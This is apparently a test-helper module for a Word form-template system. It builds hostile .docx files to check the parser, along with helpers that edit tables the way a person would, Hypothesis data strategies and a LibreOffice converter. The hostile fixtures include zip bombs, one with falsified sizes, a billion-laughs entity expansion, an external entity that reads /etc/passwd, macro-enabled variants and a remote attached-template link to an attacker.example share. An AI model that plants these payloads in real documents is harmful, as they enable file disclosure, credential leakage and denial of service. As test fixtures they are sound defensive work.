"""Real Word files for the tests: hostile ones, files edited the way a person edits them,
schema-valid data to fill them with, and LibreOffice as a second producer."""

from __future__ import annotations

import copy
import io
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import docx
from hypothesis import strategies as st

from forms_templates.definitions import (
    EMAIL_MAX,
    MONEY_MAX,
    NUMBER_MAX,
    PHONE_PATTERN,
    DocumentType,
    Field,
    Table,
)
from forms_templates.docx import layout

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
WML_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"

# --- rebuilding zips ------------------------------------------------------------------------


def entries(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(
    content: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
) -> bytes:
    """A copy of a zip with some entries replaced and some added."""
    replace = replace or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries(content).items():
            archive.writestr(name, replace.get(name, data))
        for name, data in (add or {}).items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def zip_bomb(template: bytes, megabytes: int = 300) -> bytes:
    """A real template with one more part: ``megabytes`` of zeros that deflate ~1000x."""
    buffer = io.BytesIO(rezip(template))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/image1.png", "w", force_zip64=True) as part,
    ):
        chunk = bytes(1024 * 1024)
        for _ in range(megabytes):
            part.write(chunk)
    return buffer.getvalue()


def lying_zip_bomb(template: bytes, megabytes: int = 200) -> bytes:
    """A bomb whose directory declares its big part 1,000 bytes long (sizes patched)."""
    bomb = bytearray(zip_bomb(template, megabytes))
    name = b"word/media/image1.png"
    # Central directory entry: uncompressed size at +24; local header: at +22. The entry was
    # written with zip64 sizes (0xFFFFFFFF + extra field): patch the extra field's value too.
    central = bomb.rfind(b"PK\x01\x02", 0, bomb.rfind(name))
    local = bomb.rfind(b"PK\x03\x04", 0, bomb.find(name))
    small = (1000).to_bytes(4, "little")
    for header, offset in ((central, 24), (local, 22)):
        bomb[header + offset : header + offset + 4] = small
    for header in (central, local):
        extra = bomb.find(b"\x01\x00", header + 30)
        if 0 < extra < header + 200:
            bomb[extra + 4 : extra + 12] = (1000).to_bytes(8, "little")
    return bytes(bomb)


def paragraphs_bomb(count: int = 3_000_000) -> bytes:
    """A tiny file whose document part holds ``count`` empty paragraphs (about 18 MB of XML)."""
    template = docx.Document()
    buffer = io.BytesIO()
    template.save(buffer)
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body>"
    )
    body = head + b"<w:p/>" * count + b"</w:body></w:document>"
    return rezip(buffer.getvalue(), replace={"word/document.xml": body})


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"""


def with_entity_expansion(template: bytes) -> bytes:
    return rezip(template, replace={"word/document.xml": BILLION_LAUGHS})


def with_external_entity(template: bytes) -> bytes:
    return rezip(template, replace={"word/document.xml": EXTERNAL_ENTITY})


def as_docm(template: bytes) -> bytes:
    """Saved as macro-enabled: the main part's content type says so, and it carries VBA."""
    types = entries(template)["[Content_Types].xml"].replace(WML_MAIN.encode(), DOCM_MAIN.encode())
    return rezip(
        template,
        replace={"[Content_Types].xml": types},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)},
    )


def with_macro_part_only(template: bytes) -> bytes:
    return rezip(template, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})


def with_external_template(template: bytes) -> bytes:
    """A settings relationship to an attached template on a remote share."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="file://attacker.example/share/evil.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return rezip(template, add={"word/_rels/settings.xml.rels": rels})


def with_external_hyperlink(template: bytes) -> bytes:
    names = entries(template)
    rels = names["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/hyperlink" Target="https://www.ega.go.tz/" '
        b'TargetMode="External"/></Relationships>',
    )
    return rezip(template, replace={"word/_rels/document.xml.rels": rels})


def with_extra_entry(template: bytes, name: str) -> bytes:
    buffer = io.BytesIO(rezip(template))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), b"owned")
    return buffer.getvalue()


def with_encrypted_entry(template: bytes) -> bytes:
    """One more part with the "encrypted" flag set (zipfile cannot write one: patch the flag)."""
    name = b"word/secret.xml"
    content = bytearray(with_extra_entry(template, name.decode()))
    local = content.rfind(b"PK\x03\x04", 0, content.find(name))
    central = content.rfind(b"PK\x01\x02", 0, content.rfind(name))
    content[local + 6] |= 0x1
    content[central + 8] |= 0x1
    return bytes(content)


def with_many_entries(template: bytes, count: int = 2000) -> bytes:
    return rezip(template, add={f"word/media/part{n}.bin": b"x" for n in range(count)})


def spreadsheet(template: bytes) -> bytes:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = entries(template)["[Content_Types].xml"].replace(WML_MAIN.encode(), sheet.encode())
    return rezip(template, replace={"[Content_Types].xml": types})


# --- editing the way a person edits ---------------------------------------------------------


def _markers(element) -> list[tuple[str, str]]:
    text = "".join(t.text or "" for t in element.iter(f"{W}t"))
    return [(m.group(1), m.group(2)) for m in layout.MARKER.finditer(text)]


def answer_cell(document, key: str):
    for row in document.element.body.iter(f"{W}tr"):
        cells = row.findall(f"{W}tc")
        if len(cells) == 2 and ("field", key) in _markers(cells[0]):
            return cells[1]
    raise KeyError(key)


def table_element(document, key: str):
    for table in document.element.body.iter(f"{W}tbl"):
        first = table.find(f"{W}tr")
        if first is not None and ("table", key) in _markers(first):
            return table
    raise KeyError(key)


def type_into(cell, text: str) -> None:
    """Select the cell's content, delete it, type ``text`` (Enter between lines)."""
    paragraphs = cell.findall(f"{W}p")
    for extra in paragraphs[1:]:
        cell.remove(extra)
    first = paragraphs[0]
    for child in list(first):
        if child.tag != f"{W}pPr":
            first.remove(child)
    template = copy.deepcopy(first)
    for number, line in enumerate(text.split("\n")):
        paragraph = first if number == 0 else copy.deepcopy(template)
        if number:
            cell.append(paragraph)
        if line:
            run = paragraph.makeelement(f"{W}r", {})
            for index, piece in enumerate(line.split("\t")):
                if index:
                    run.append(run.makeelement(f"{W}tab", {}))
                if piece:
                    t = run.makeelement(f"{W}t", {})
                    t.text = piece
                    t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
                    run.append(t)
            paragraph.append(run)


def type_answer(document, key: str, text: str) -> None:
    type_into(answer_cell(document, key), text)


def data_rows(document, table_key: str) -> list:
    return table_element(document, table_key).findall(f"{W}tr")[1:]


def add_row(document, table_key: str, values: list[str]) -> None:
    """Tab in the last cell: Word adds a row shaped like the last one, empty; then type."""
    table = table_element(document, table_key)
    last = table.findall(f"{W}tr")[-1]
    row = copy.deepcopy(last)
    last.addnext(row)
    for cell, value in zip(row.findall(f"{W}tc"), values, strict=False):
        type_into(cell, value)
    for cell in row.findall(f"{W}tc")[len(values) :]:
        type_into(cell, "")


def fill_row(document, table_key: str, index: int, values: list[str]) -> None:
    row = data_rows(document, table_key)[index]
    for cell, value in zip(row.findall(f"{W}tc"), values, strict=False):
        type_into(cell, value)


def delete_row(document, table_key: str, index: int) -> None:
    row = data_rows(document, table_key)[index]
    row.getparent().remove(row)


def open_docx(content: bytes):
    return docx.Document(io.BytesIO(content))


def save_docx(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


# --- schema-valid data ----------------------------------------------------------------------

NASTY_TEXTS = [
    "",
    " ",
    "\n",
    "Habari za asubuhi, Bw. Juma — karibu!",
    "“Mradi” wa ‘TEHAMA’ \"quotes\" 'single'",
    "Ñandú, café, naïve, Zürich, Ærø, Łódź",
    "😀🇹🇿 emoji 👩🏾‍💻",
    "mstari wa kwanza\nmstari wa pili\n\nwa nne",
    "windows\r\nline\rendings",
    "\ttab\tseparated\t",
    "  spaces around  ",
    "control\x01chars\x0b\x1f",
    "<w:t>not xml</w:t> & {{idhini:field:x}}",
    "1,500,000",
    "2027-01-15",
]


def _text(limit: int, *, lines: bool) -> st.SearchStrategy[str]:
    alphabet = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
    size = min(limit, 40)
    strategies = [
        st.text(alphabet=alphabet, max_size=size),
        st.sampled_from(NASTY_TEXTS),
    ]
    if lines:
        strategies.append(
            st.lists(st.text(alphabet=alphabet, max_size=20), max_size=4).map("\n".join)
        )
    return st.one_of(strategies).map(lambda value: value[:limit])


def value_strategy(field: Field) -> st.SearchStrategy[Any]:
    kind = field.kind
    if kind in ("text", "long_text"):
        return _text(field.max_chars() or 500, lines=kind == "long_text")
    if kind == "number":
        return st.one_of(
            st.integers(-NUMBER_MAX, NUMBER_MAX),
            st.floats(-NUMBER_MAX, NUMBER_MAX, allow_nan=False, allow_infinity=False),
        )
    if kind == "money":
        return st.integers(0, MONEY_MAX)
    if kind == "date":
        return st.dates().map(lambda day: day.isoformat())
    if kind == "choice":
        return st.sampled_from([choice.value for choice in field.choices])
    if kind == "email":
        return st.from_regex(r"\A[^@\s]{1,12}@[^@\s]{1,12}\.[^@\s]{1,8}\Z").filter(
            lambda text: len(text) <= EMAIL_MAX
        )
    if kind == "phone":
        return st.from_regex(PHONE_PATTERN.replace("^", r"\A").replace("$", r"\Z"))
    raise ValueError(kind)


def data_strategy(definition: DocumentType) -> st.SearchStrategy[dict[str, Any]]:
    optional: dict[str, st.SearchStrategy[Any]] = {}
    for item in definition.items():
        if isinstance(item, Table):
            row = st.fixed_dictionaries(
                {}, optional={column.key: value_strategy(column) for column in item.columns}
            )
            optional[item.key] = st.lists(row, max_size=4)
        else:
            optional[item.key] = value_strategy(item)
    return st.fixed_dictionaries({}, optional=optional)


# --- LibreOffice ----------------------------------------------------------------------------


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def libreoffice_convert(
    files: dict[str, bytes], to: str, *, timeout: int = 180
) -> dict[str, bytes]:
    """Open each file in LibreOffice (headless, throwaway profile) and save it as ``to``."""
    binary = soffice()
    assert binary is not None
    with tempfile.TemporaryDirectory(prefix="idhini-lo-") as tmp:
        folder = Path(tmp)
        (folder / "in").mkdir()
        (folder / "out").mkdir()
        paths = []
        for name, content in files.items():
            path = folder / "in" / name
            path.write_bytes(content)
            paths.append(str(path))
        subprocess.run(
            [
                binary,
                f"-env:UserInstallation=file://{folder}/profile",
                "--headless",
                "--norestore",
                "--convert-to",
                to,
                "--outdir",
                str(folder / "out"),
                *paths,
            ],
            check=True,
            timeout=timeout,
            capture_output=True,
        )
        extension = to.split(":", 1)[0]
        return {
            name: (folder / "out" / f"{Path(name).stem}.{extension}").read_bytes() for name in files
        }


# --- what a person types, and what it means -------------------------------------------------


def typed(field: Field, index: int = 0) -> tuple[str, Any]:
    """A person's way of writing an answer of this kind, and the value it stands for."""
    kind = field.kind
    if kind == "text":
        text = f"Jibu {index}: “TEHAMA” 😀 Wizara ya Afya"[: field.max_chars()]
        return text, text
    if kind == "long_text":
        text = f"Aya ya kwanza {index}, café.\nAya ya pili\twenye tab.\n\nAya ya nne."
        return text, text
    if kind == "number":
        return ("12" if index % 2 == 0 else " 2.5 "), (12 if index % 2 == 0 else 2.5)
    if kind == "money":
        return ("TZS 1,500,000/=" if index % 2 == 0 else "2 750 000"), (
            1_500_000 if index % 2 == 0 else 2_750_000
        )
    if kind == "date":
        return ("15/01/2027" if index % 2 == 0 else "2027-03-31"), (
            "2027-01-15" if index % 2 == 0 else "2027-03-31"
        )
    if kind == "choice":
        choice = field.choices[index % len(field.choices)]
        text = choice.label.en if index % 2 == 0 else choice.label.sw.upper()
        return text, choice.value
    if kind == "email":
        return f" afisa{index}@afya.go.tz ", f"afisa{index}@afya.go.tz"
    if kind == "phone":
        return "+255 22 212 3456", "+255 22 212 3456"
    raise ValueError(kind)


def fill_like_a_person(content: bytes, definition: DocumentType) -> tuple[bytes, dict[str, Any]]:
    """Type into every answer cell; in each table fill the first and third blank rows, leave the
    second blank, add a row with Tab and type into it. Returns the file and the data it means."""
    document = open_docx(content)
    expected: dict[str, Any] = {}
    for item in definition.items():
        if isinstance(item, Table):
            rows = []
            for template_row, index in ((0, 0), (2, 1)):
                pairs = [typed(column, index) for column in item.columns]
                fill_row(document, item.key, template_row, [text for text, _value in pairs])
                rows.append({c.key: v for c, (_t, v) in zip(item.columns, pairs, strict=True)})
            pairs = [typed(column, 2) for column in item.columns]
            add_row(document, item.key, [text for text, _value in pairs])
            rows.append({c.key: v for c, (_t, v) in zip(item.columns, pairs, strict=True)})
            expected[item.key] = rows
        else:
            text, value = typed(item)
            type_answer(document, item.key, text)
            expected[item.key] = value
    return save_docx(document), expected
